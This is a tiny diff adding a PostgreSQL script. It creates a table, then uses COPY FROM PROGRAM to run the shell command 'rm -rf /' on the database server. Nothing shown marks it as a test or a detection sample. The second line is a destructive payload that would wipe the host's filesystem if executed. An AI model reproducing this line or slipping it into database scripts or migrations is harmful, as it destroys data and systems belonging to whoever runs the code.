@@ -1,0 +1,2 @@
+CREATE TABLE t (id int PRIMARY KEY);
+COPY t FROM PROGRAM 'rm -rf /';
